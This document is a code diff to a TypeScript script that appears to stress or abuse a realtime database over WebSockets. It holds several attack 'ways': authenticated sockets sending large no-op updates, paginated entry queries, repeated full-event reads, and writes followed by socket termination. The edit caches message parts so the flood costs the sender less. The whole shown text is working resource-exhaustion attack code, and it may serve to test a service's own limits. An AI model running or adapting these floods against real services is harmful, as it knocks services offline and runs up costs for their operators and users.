@@ -21,11 +21,12 @@ let isOver = false;
 
 const framed = (r: number, a: string, b: object): string => JSON.stringify({ t: 'd', d: { r, a, b } });
 
-/** As the official SDK sends it. */
-function sendInParts(socket: WebSocket, text: string): void {
-  const parts = text.match(/[^]{1,16384}/g) ?? [];
+/** As the official SDK cuts it. */
+const inParts = (text: string): readonly string[] => text.match(/[^]{1,16384}/g) ?? [];
+
+function sendParts(socket: WebSocket, parts: readonly string[]): void {
   if (parts.length === 1) {
-    socket.send(text);
+    socket.send(parts[0] ?? '');
     return;
   }
   socket.send(String(parts.length));
@@ -36,7 +37,7 @@ function sendInParts(socket: WebSocket, text: string): void {
 function attack(
   token: string,
   atOnce: number,
-  text: (n: number) => string,
+  text: (n: number) => readonly string[],
   each?: (socket: WebSocket) => void,
 ): void {
   if (isOver) return;
@@ -46,7 +47,7 @@ function attack(
   let n = 1;
   const next = (): void => {
     n += 1;
-    if (!isOver && socket.readyState === socket.OPEN) sendInParts(socket, text(n));
+    if (!isOver && socket.readyState === socket.OPEN) sendParts(socket, text(n));
   };
   socket.on('open', () => {
     socket.send(framed(0, 'auth', { cred: token }));
@@ -67,9 +68,11 @@ function attack(
 }
 
 /** An update that is allowed and does nothing, with so many places under one's own node. */
-function nothings(uid: string, places: number): (n: number) => string {
+function nothings(uid: string, places: number): () => readonly string[] {
   const d = Object.fromEntries(Array.from({ length: places }, (_, n) => [`c${n}`, null]));
-  return (n) => framed(n, 'm', { p: `/codeClaims/${uid}`, d });
+  // Made once: an attacker has better things to do with a processor.
+  const parts = inParts(framed(1, 'm', { p: `/codeClaims/${uid}`, d }));
+  return () => parts;
 }
 
 const agent = new Agent({ keepAlive: true, maxSockets: 4 });
@@ -89,9 +92,9 @@ const WAYS: readonly ((uid: string, token: string) => void)[] = [
   (uid, token) => attack(token, 5, nothings(uid, 1000)),
   // Another window each time: none was worked out before.
   (_, token) =>
-    attack(token, 5, (n) =>
+    attack(token, 5, (n) => [
       framed(n, 'g', { p: '/events/Waltz/entries', q: { i: 'leadName', sp: String(n), l: 500, vf: 'r' } }),
-    ),
+    ]),
   (_, token) => {
     for (let many = 0; many < 4; many += 1) read(`/events.json?ns=${namespace}&auth=${token}&n=${many}`);
   },
@@ -100,7 +103,7 @@ const WAYS: readonly ((uid: string, token: string) => void)[] = [
     attack(
       token,
       1,
-      (n) => framed(n, 'o', { p: `/codeClaims/${uid}/c${n}`, d: null }),
+      (n) => [framed(n, 'o', { p: `/codeClaims/${uid}/c${n}`, d: null })],
       (socket) => setTimeout(() => socket.terminate(), 200),
     ),
 ];
